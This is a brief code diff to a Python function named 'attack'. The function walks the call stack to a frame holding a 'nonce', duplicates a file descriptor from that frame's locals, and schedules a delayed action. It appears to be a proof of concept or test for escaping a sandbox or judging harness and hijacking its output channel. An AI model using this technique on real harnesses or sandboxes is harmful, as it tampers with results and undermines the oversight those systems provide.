@@ -15,7 +15,7 @@ def attack(x):
     frame = sys._getframe()
     while "nonce" not in frame.f_locals:
         frame = frame.f_back
-    output = os.dup(frame.f_locals["output"])
+    output = os.dup(frame.f_locals["descriptors"][-1])
 
     def later():
         time.sleep(0.05)
